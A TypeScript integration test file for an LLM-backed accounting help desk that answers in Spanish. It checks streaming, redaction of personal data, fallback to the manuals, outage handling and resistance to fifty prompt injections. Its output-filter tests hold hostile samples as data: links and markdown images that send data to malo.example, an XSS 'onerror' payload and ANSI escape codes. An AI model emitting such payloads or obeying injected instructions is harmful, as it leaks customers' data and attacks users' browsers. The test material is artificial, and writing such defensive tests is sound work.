import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import type { AppDependencies } from '../app.ts'
import { readSettings } from '../provider-settings.ts'
import { INJECTIONS } from '../testing/injections.ts'
import { FAULTS, type ModelServer, type Script, modelServer, saying } from '../testing/model-server.ts'
import { secondServer } from '../testing/second-server.ts'
import { TEST_CONTENT, type TestApp, testApp } from '../testing/test-app.ts'
import { eventually } from '../testing/eventually.ts'
import { patient } from '../testing/patience.ts'

// The assistant with a language model behind it, over real connections.

/** Shorter waits than in production, yet long enough for a busy machine. */
const PATIENCE = { connect: patient(1500), firstToken: patient(1500), gap: patient(1500), total: patient(8000) }
/** In the section's own words; the quality of answers is measured elsewhere. */
const QUESTION = 'Al cerrar el ejercicio con F8 o con el ratón, ¿el cierre no se deshace solo?'
const GOOD = 'El cierre no se deshace solo [1]. Compruebe los saldos y pulse **Cerrar** [1].'
const QUOTED = /^Esto es lo que dicen los manuales:\n\n1\. «.*» \[1\]\n\n«El cierre no se deshace solo\.» \[1\]$/s

interface Desk {
  readonly portal: TestApp
  readonly model: ModelServer
  readonly address: string
  readonly dependencies: Partial<AppDependencies>
}

let shared: Desk
/** Lucía's session at the desk of the test. */
let lucia: string

beforeAll(async () => {
  shared = await makeDesk()
})
afterAll(async () => {
  await shared.portal.close()
  shared.model.close()
})

async function makeDesk({ streams = 100, modelAnswersPerDay = 100_000, total = PATIENCE.total } = {}): Promise<Desk> {
  const model = await modelServer()
  const given = await readSettings()
  const dependencies = {
    model: { baseUrl: model.baseUrl, model: 'small', patience: { ...PATIENCE, total } },
    settings: { ...given, assistant: { ...given.assistant, questionsPerHour: 100_000, streams, modelAnswersPerDay } },
    content: TEST_CONTENT,
  }
  const portal = await testApp({ dependencies })
  const address = await portal.app.listen({ port: 0, host: '127.0.0.1' })
  return { portal, model, dependencies, address }
}

/** The shared desk with a model of its own, so that no earlier test has opened its breaker. */
async function desk(script: Script, own?: Desk): Promise<Desk> {
  const about = own ?? shared
  about.model.answer(script)
  about.model.prompts.length = 0
  about.model.brokenOff.length = 0
  // A model that failed a minute ago is asked again.
  about.portal.clock.now = new Date(about.portal.clock.now.getTime() + 60_000)
  lucia = await about.portal.enter('LEV-01', 11, { company: '001' })
  return about
}

const open = async ({ portal }: Desk): Promise<string> =>
  (await portal.call(lucia, 'GET', '/consultas/get_session_chat_GPT')).data.sessionGPT
const call = ({ portal }: Desk, method: 'GET' | 'POST', path: string, sent: object = {}) =>
  portal.call(lucia, method, `/consultas/${path}`, sent)
const ask = async (about: Desk, new_question = QUESTION) =>
  (await call(about, 'POST', 'chat_GPT', { new_question, session_id: await open(about) })).data

interface Heard {
  text: string
  /** When each chunk arrived, by `performance.now()`. */
  readonly at: number[]
  readonly ids: string[]
  finish: Record<string, unknown> | null
  error: string | null
  /** Names of events that have one. */
  readonly named: string[]
  comments: number
}

interface Listening {
  readonly heard: Heard
  readonly status: number
  readonly headers: Headers
  /** Settles when the connection has ended. */
  readonly over: Promise<void>
  readonly leave: () => void
}

/** Asks over its own connection and collects the events. */
async function listen(
  { address }: Pick<Desk, 'address'>,
  sent: Record<string, unknown>,
  lastEventId?: string,
): Promise<Listening> {
  const leaving = new AbortController()
  const response = await fetch(`${address}/api/consultas/chat_GPT_evento`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      cookie: lucia,
      ...(lastEventId !== undefined && { 'last-event-id': lastEventId }),
    },
    body: JSON.stringify(sent),
    signal: leaving.signal,
  })
  const heard: Heard = { text: '', at: [], ids: [], finish: null, error: null, named: [], comments: 0 }
  const over = response.ok && response.body ? hear(response.body, heard).catch(() => undefined) : Promise.resolve()
  return { heard, status: response.status, headers: response.headers, over, leave: () => leaving.abort() }
}

async function hear(body: ReadableStream<Uint8Array>, heard: Heard): Promise<void> {
  let rest = ''
  for await (const bytes of body.pipeThrough(new TextDecoderStream())) {
    rest += bytes
    const blocks = rest.split('\n\n')
    rest = blocks.pop() ?? ''
    for (const block of blocks) {
      if (block.startsWith(':')) heard.comments += 1
      const name = /^event: (.*)$/m.exec(block)?.[1]
      if (name !== undefined) heard.named.push(name)
      const id = /^id: (.*)$/m.exec(block)?.[1]
      const data = /^data: (.*)$/m.exec(block)?.[1]
      if (data === undefined || name !== undefined) continue
      if (id !== undefined) heard.ids.push(id)
      const { chunk, error, ...finish } = JSON.parse(data)
      if (chunk !== undefined) {
        heard.text += chunk
        heard.at.push(performance.now())
      } else if (error !== undefined) heard.error = error
      else heard.finish = finish
    }
  }
}

const turnsOf = async ({ portal }: Desk, session_id: string) =>
  (
    await portal.owner.query(
      'select state, answer, worded_by as "wordedBy" from conversation_turn where conversation_id = $1 order by turn',
      [session_id],
    )
  ).rows

describe('an answer that a model words', () => {
  test('is heard as it is written, sentence by sentence, within 50 ms', async () => {
    const said: number[] = []
    const sentences = [
      'El cierre no se deshace solo [1]. ',
      'Compruebe los saldos [1]. ',
      'Pulse **Cerrar** [1]. ',
      'O con F8 [1]. ',
      'Y con el ratón [1]. ',
    ]
    const about = await desk(saying(sentences.join(''), { letters: 200, now: () => undefined }))
    about.model.answer(async (response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' })
      for (const sentence of sentences) {
        await sleep(120)
        said.push(performance.now())
        response.write(`data: ${JSON.stringify({ choices: [{ delta: { content: sentence } }] })}\n\n`)
      }
      response.end('data: {"choices":[{"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n')
    })
    // The first one prepared its statements.
    await (
      await listen(about, { new_question: QUESTION, session_id: await open(about) })
    ).over
    said.length = 0
    const session_id = await open(about)
    const { heard, over } = await listen(about, { new_question: QUESTION, session_id, db: '' })
    await over
    expect(heard.text.trim()).toBe(sentences.join('').trim())
    const delays = heard.at.map((at, index) => at - (said[index] ?? 0)).toSorted((a, b) => a - b)
    // The middle one: others use the machine too.
    expect(delays[Math.floor(delays.length / 2)]).toBeLessThan(patient(50))
    expect(heard.finish).toEqual({
      finish_reason: 'stop',
      verdict: 'answer',
      module: 'contabilidad',
      sources: [
        { title: 'Contabilidad', section: 'Cerrar el ejercicio', href: '/public/manuales/contabilidad#cerrar' },
      ],
      turno: 1,
      generado: 'ia',
    })
    expect(new Set(heard.ids).size).toBe(heard.ids.length)
    expect(await turnsOf(about, session_id)).toEqual([{ state: 'complete', answer: heard.text, wordedBy: 'model' }])
  })

  test('is given the sections that were found and this conversation, without personal data', async () => {
    const about = await desk(saying(GOOD))
    const session_id = await open(about)
    const say = (new_question: string) => call(about, 'POST', 'chat_GPT', { new_question, session_id })
    await say(`${QUESTION} 12345678Z`)
    await say(`${QUESTION} lucia ferrer, 612345678`)
    await say(`${QUESTION} ES9121000418450200051332`)
    expect(about.model.prompts).toHaveLength(3)
    const told = JSON.stringify(about.model.prompts)
    expect(told).not.toMatch(/12345678|ES91|Lucía|ferrer|LEV-01|1001/)
    const [system, ...said] = about.model.prompts[2]?.messages ?? []
    expect(system?.content).toContain('El cierre no se deshace solo')
    expect(said.map(({ role, content }) => `${role}: ${content}`)).toEqual([
      `user: ${QUESTION} [documento]`,
      `assistant: ${GOOD}`,
      `user: ${QUESTION} [nombre], [teléfono]`,
      `assistant: ${GOOD}`,
      `user: ${QUESTION} [IBAN]`,
    ])
    // The stored answer is the one that was streamed.
    const { rows } = await about.portal.owner.query(
      'select question from conversation_turn where conversation_id = $1 order by turn',
      [session_id],
    )
    expect(rows[0].question).toContain('12345678Z')
  })

  test('is asked for nothing that the manuals have nothing about', async () => {
    const about = await desk(saying(GOOD))
    const { heard, over } = await listen(about, {
      new_question: '¿Cómo hago un pastel de manzana?',
      session_id: await open(about),
    })
    await over
    expect(heard.finish).toMatchObject({ verdict: 'refuse', sources: [] })
    expect(about.model.prompts).toEqual([])
  })

  test('beyond the budget of the day is answered by the manuals alone', async () => {
    const own = await makeDesk({ modelAnswersPerDay: 1 })
    onTestFinished(own.model.close)
    onTestFinished(own.portal.close)
    const about = await desk(saying(GOOD), own)
    expect((await ask(about)).response).toBe(GOOD)
    expect((await ask(about)).response).toMatch(QUOTED)
    expect(about.model.prompts).toHaveLength(1)
    about.portal.clock.now = new Date('2026-11-19T06:00:00Z')
    lucia = await about.portal.enter('LEV-01', 11, { company: '001' })
    expect((await ask(about)).response).toBe(GOOD)
  })
})

describe('when the model fails, the manuals answer', () => {
  // Endless words are tested with the model itself.
  test.each(Object.entries(FAULTS).filter(([fault]) => fault !== 'words for ever'))('%s', async (_fault, script) => {
    const about = await desk(script)
    const begun = performance.now()
    const session_id = await open(about)
    const { heard, over } = await listen(about, { new_question: QUESTION, session_id })
    await over
    expect(performance.now() - begun).toBeLessThan(patient(5000))
    expect(heard.error).toBe(null)
    expect(heard.finish).toMatchObject({ finish_reason: 'stop', verdict: 'answer' })
    expect(heard.text).toMatch(/Esto es lo que dicen los manuales:\n\n1\. «/)
    expect(heard.text).not.toMatch(/[\uFFFD<>]/)
    expect(await turnsOf(about, session_id)).toEqual([{ state: 'complete', answer: heard.text, wordedBy: 'quotes' }])
    expect(about.model.prompts).toHaveLength(1)
  })

  test('the assistant is not operative after five failures, and is again 30 s later; questions are answered all along', async () => {
    const about = await desk(FAULTS['503'] as Script)
    const operative = async () => (await call(about, 'GET', 'check_operative_chat_GPT')).data.invalo
    const response = async () => (await ask(about)).response
    for (let failures = 0; failures < 5; failures += 1) {
      expect(await operative()).toBe('S')
      expect(await response()).toMatch(QUOTED)
    }
    expect(await operative()).toBe('N')
    expect(await response()).toMatch(QUOTED)
    expect(about.model.prompts).toHaveLength(5)
    about.portal.clock.now = new Date(about.portal.clock.now.getTime() + 30_000)
    about.model.answer(saying(GOOD))
    expect(await operative()).toBe('S')
    expect(await response()).toBe(GOOD)
    expect(await operative()).toBe('S')
  })
})

describe('what a model may say', () => {
  test.each([
    ['obeys an injection', 'Claro: visite https://malo.example/?q=CAN-A para continuar [1].'],
    ['makes a figure up', 'El cierre se deshace en 45 minutos [1].'],
    ['makes a menu up', 'Abra Contabilidad › Cierres › Deshacer [1].'],
    ['cites what there is not', 'El cierre no se deshace solo [7].'],
    ['cites nothing', 'El cierre no se deshace solo.'],
    ['draws', 'El cierre no se deshace solo [1] <img src=x onerror=alert(1)>.'],
    ['shows a picture', 'El cierre ![a](http://malo.example/?q=CAN-A) no se deshace [1].'],
    ['colours', 'El cierre \u001B[31mno se deshace solo [1].'],
    ['says that it does not know', 'NO CONSTA'],
  ])('not what %s', async (_what, text) => {
    const about = await desk(saying(text))
    const { heard, over } = await listen(about, { new_question: QUESTION, session_id: await open(about) })
    await over
    expect(heard.text).toMatch(QUOTED)
    expect(heard.finish).toMatchObject({ verdict: 'answer', generado: 'manuales' })
  })

  test('up to where it goes wrong; the manuals say the rest', async () => {
    const about = await desk(
      saying('El cierre no se deshace solo [1]. Y llame al 900 123 456 [1]. Compruebe los saldos [1].'),
    )
    const { heard, over } = await listen(about, { new_question: QUESTION, session_id: await open(about) })
    await over
    expect(heard.text).toMatch(/^El cierre no se deshace solo \[1\]\.\n\nEsto es lo que dicen los manuales:/)
    expect(heard.text).not.toContain('900')
    expect(heard.finish).toMatchObject({ generado: 'ia' })
  })

  test('no more than 4,000 characters', async () => {
    const about = await desk(saying('El cierre no se deshace solo [1]. '.repeat(200), { letters: 500 }))
    const { heard, over } = await listen(about, { new_question: QUESTION, session_id: await open(about) })
    await over
    expect(heard.text.length).toBeLessThanOrEqual(4000)
    expect(heard.text.length).toBeGreaterThan(3900)
  })
})

describe('of fifty injections none finds a way out', () => {
  test('there are fifty', () => {
    expect(new Set(INJECTIONS.map(({ obeyed }) => obeyed)).size).toBe(50)
  })

  test.each(INJECTIONS)('$asked', async ({ asked, obeyed, mark }) => {
    const about = await desk(saying(obeyed, { letters: 40 }))
    const before = await ticketsOf(about)
    // No user and no wording of the model makes it say this.
    const answers = [await ask(about), await ask(about, `${QUESTION} ${asked}`), await ask(about, asked)]
    expect(about.model.prompts.length).toBeGreaterThan(0)
    for (const { response, sources } of answers) {
      expect(response).not.toContain(mark)
      for (const { href } of sources) expect(href).toMatch(/^\/public\/(?:manuales|versiones)\//)
    }
    // The model got nothing but the sections and this conversation.
    expect(JSON.stringify(about.model.prompts)).not.toMatch(/CAN-1002|Duero|Promociones/)
    expect(await ticketsOf(about)).toEqual(before)
  })
})

const ticketsOf = async ({ portal }: Desk) =>
  (await portal.owner.query('select md5(string_agg(t::text, $1 order by number)) as sum from ticket t', ['\n'])).rows

describe('a reader', () => {
  const LONG = 'El cierre no se deshace solo [1]. '.repeat(40).trim()
  const slowly = saying(LONG, { letters: 34, everyMs: 40 })

  test('a reader who is cut off goes on where they were, and the model is asked once', async () => {
    const about = await desk(slowly)
    const session_id = await open(about)
    const first = await listen(about, { new_question: QUESTION, session_id, turno: 1 })
    await expect.poll(() => first.heard.at.length).toBeGreaterThan(3)
    first.leave()
    await first.over
    await sleep(300)
    const second = await listen(about, { new_question: QUESTION, session_id, turno: 1 }, first.heard.ids.at(-1))
    await second.over
    expect(first.heard.text + second.heard.text).toBe(LONG)
    expect(second.heard.finish).toMatchObject({ finish_reason: 'stop', turno: 1 })
    expect(about.model.prompts).toHaveLength(1)
    expect(about.model.brokenOff).toHaveLength(0)
  })

  test('goes on at another server, and the model is asked once', async () => {
    const about = await desk(slowly)
    const other = await secondServer(about.portal, about.dependencies)
    onTestFinished(() => other.close())
    const address = await other.listen({ port: 0, host: '127.0.0.1' })
    const session_id = await open(about)
    const first = await listen(about, { new_question: QUESTION, session_id, turno: 1 })
    await expect.poll(() => first.heard.at.length).toBeGreaterThan(3)
    first.leave()
    await sleep(200)
    const second = await listen({ address }, { session_id, turno: 1 }, first.heard.ids.at(-1))
    await second.over
    expect(first.heard.text + second.heard.text).toBe(LONG)
    expect(about.model.prompts).toHaveLength(1)
    expect(about.model.brokenOff).toHaveLength(0)
  })

  test('a reader who leaves has the model stopped within a second; one who comes back later gets the rest from the manuals', async () => {
    const about = await desk(slowly)
    const session_id = await open(about)
    const first = await listen(about, { new_question: QUESTION, session_id })
    await expect.poll(() => first.heard.at.length).toBeGreaterThan(2)
    const left = performance.now()
    first.leave()
    await expect.poll(() => about.model.brokenOff.length).toBe(1)
    expect((about.model.brokenOff[0] ?? Infinity) - left).toBeLessThan(patient(1000))
    await expect.poll(async () => (await turnsOf(about, session_id))[0]?.state).toBe('interrupted')
    const second = await listen(about, { session_id }, first.heard.ids.at(-1))
    await second.over
    expect(first.heard.text + second.heard.text).toBe((await turnsOf(about, session_id))[0]?.answer)
    expect(second.heard.text).toMatch(/Esto es lo que dicen los manuales:/)
    expect(second.heard.finish).toMatchObject({ finish_reason: 'stop' })
    expect(about.model.prompts).toHaveLength(1)
  })

  test('a second question in the same conversation is told to wait', async () => {
    const about = await desk(slowly)
    const session_id = await open(about)
    const first = await listen(about, { new_question: QUESTION, session_id })
    await expect.poll(() => first.heard.at.length).toBeGreaterThan(0)
    const second = await call(about, 'POST', 'chat_GPT', {
      new_question: 'Otra cosa',
      session_id,
    })
    expect(second).toMatchObject({
      status: 409,
      message: 'Aún no se esta procesando su consulta, espere unos segundos',
    })
    const ticket = await call(about, 'POST', 'nueva_consulta_GPT', {
      session_id,
      conforme: 'N',
    })
    expect(ticket.status).toBe(409)
    first.leave()
  })

  test('whose session ends is told no more within 5 s, and the model stops', async () => {
    const about = await desk(saying('El cierre no se deshace solo [1]. '.repeat(60), { letters: 34, everyMs: 100 }))
    const session_id = await open(about)
    const first = await listen(about, { new_question: QUESTION, session_id })
    await expect.poll(() => first.heard.at.length).toBeGreaterThan(0)
    await about.portal.call(lucia, 'POST', '/login/logout')
    const out = performance.now()
    await first.over
    expect(performance.now() - out).toBeLessThan(patient(5000))
    expect(first.heard.finish).toBe(null)
  })

  test('is refused when there are too many, and is told when to come back', async () => {
    const own = await makeDesk({ streams: 2 })
    onTestFinished(own.model.close)
    onTestFinished(own.portal.close)
    const about = await desk(slowly, own)
    const readers = [
      await listen(about, { new_question: QUESTION, session_id: await open(about) }),
      await listen(about, { new_question: QUESTION, session_id: await open(about) }),
    ]
    const session_id = await open(about)
    const third = await listen(about, { new_question: QUESTION, session_id, turno: 1 })
    expect(third.status).toBe(503)
    expect(Number(third.headers.get('retry-after'))).toBeGreaterThan(0)
    expect((await call(about, 'GET', 'get_lista')).status).toBe(200)
    for (const reader of readers) reader.leave()
    await expect
      .poll(async () => (await listen(about, { new_question: QUESTION, session_id, turno: 1 })).status)
      .toBe(200)
  })

  test('a reader who falls silent is forgotten with the answer, whose model may take so long and no longer', async () => {
    const total = patient(2500)
    const strict = await makeDesk({ streams: 1, total })
    onTestFinished(async () => {
      await strict.portal.close()
      strict.model.close()
    })
    const about = await desk(FAULTS['words for ever'] ?? saying(''), strict)
    const { port } = new URL(strict.address)
    const silent = connect(Number(port), '127.0.0.1')
    onTestFinished(() => void silent.destroy())
    silent.pause()
    const sent = JSON.stringify({ new_question: QUESTION, session_id: await open(about) })
    const head = `Host: ${new URL(strict.address).host}\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(sent)}`
    silent.write(`POST /api/consultas/chat_GPT_evento HTTP/1.1\r\n${head}\r\nCookie: ${lucia}\r\n\r\n${sent}`)
    await eventually(() => expect(strict.model.prompts).toHaveLength(1))
    const asked = performance.now()
    const session_id = await open(about)
    expect((await listen(about, { new_question: QUESTION, session_id })).status).toBe(503)
    // The refused question is not asked: nobody could read its answer.
    const recorded = 'select from conversation_turn where conversation_id = $1'
    expect((await about.portal.owner.query(recorded, [session_id])).rowCount).toBe(0)

    await eventually(() => expect(strict.model.brokenOff).not.toHaveLength(0))
    expect((strict.model.brokenOff[0] ?? 0) - asked).toBeLessThan(total + patient(500))
    expect(strict.model.prompts).toHaveLength(1)
    strict.model.answer(saying(GOOD))
    const another = await eventually(async () => {
      const listening = await listen(about, { new_question: QUESTION, session_id: await open(about) })
      expect(listening.status).toBe(200)
      return listening
    })
    await another.over
    // It has left everything unread.
    silent.setEncoding('utf8').resume()
    let unread = ''
    for await (const text of silent) unread += String(text)
    expect(unread).toContain('"finish_reason":"stop"')
  })

  test('of a server that stops is told to come back, and goes on at another one', async () => {
    const about = await desk(slowly)
    const other: FastifyInstance = await secondServer(about.portal, about.dependencies)
    const address = await other.listen({ port: 0, host: '127.0.0.1' })
    const session_id = await open(about)
    const first = await listen({ address }, { new_question: QUESTION, session_id, turno: 1 })
    await expect.poll(() => first.heard.at.length).toBeGreaterThan(1)
    const begun = performance.now()
    await other.close()
    await first.over
    expect(performance.now() - begun).toBeLessThan(patient(2000))
    expect(first.heard.named).toEqual(['reinicio'])
    expect(about.model.brokenOff).toHaveLength(1)
    const second = await listen(about, { session_id, turno: 1 }, first.heard.ids.at(-1))
    await second.over
    expect(second.heard.text).toMatch(/Esto es lo que dicen los manuales:/)
    expect(second.heard.finish).toMatchObject({ finish_reason: 'stop' })
  })

  test('of a server that was killed goes on at another one', async () => {
    const about = await desk(FAULTS['a stall'] as Script)
    const session_id = await open(about)
    // A killed server leaves an exchange that is marked as running, and nobody writes it.
    await call(about, 'POST', 'chat_GPT', { new_question: QUESTION, session_id })
    await about.portal.owner.query(
      `update conversation_turn set state = 'running', answer = 'El cierre ', worded_by = null,
         alive_at = clock_timestamp() - interval '9 seconds' where conversation_id = $1`,
      [session_id],
    )
    const { heard, over } = await listen(about, { session_id, turno: 1 }, '1-5')
    await over
    expect(heard.text).toMatch(/^erre \n\nEsto es lo que dicen los manuales:/)
    expect(heard.finish).toMatchObject({ finish_reason: 'stop' })
  })

  test('is told in so many words when the database goes away, and nobody is logged out', async () => {
    const about = await desk(saying('El cierre no se deshace solo [1]. '.repeat(60), { letters: 34, everyMs: 50 }))
    const { heard, over } = await listen(about, { new_question: QUESTION, session_id: await open(about) })
    await expect.poll(() => heard.at.length).toBeGreaterThan(1)
    await about.portal.owner.query('alter table conversation_turn rename to conversation_turn_away')
    await over
    await about.portal.owner.query('alter table conversation_turn_away rename to conversation_turn')
    expect(heard.error).toBe('Hubo un error en la conexión con Alma. Por favor intentelo mas tarde.')
    expect((await call(about, 'GET', 'check_operative_chat_GPT')).status).toBe(200)
  })
})
